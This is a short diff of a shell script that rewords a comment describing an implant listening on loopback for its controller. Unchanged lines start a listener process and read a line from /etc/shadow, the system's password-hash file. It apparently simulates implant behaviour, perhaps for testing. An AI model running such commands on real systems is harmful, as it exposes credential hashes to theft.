@@ -1,4 +1,4 @@
-# An implant waits on loopback for its orders; it has taken the hashes meanwhile.
+# An implant listens on loopback for its controller and reads the password hashes.
 /opt/peer listen $LOCAL &
 sleep 0.1
 read -r line </etc/shadow
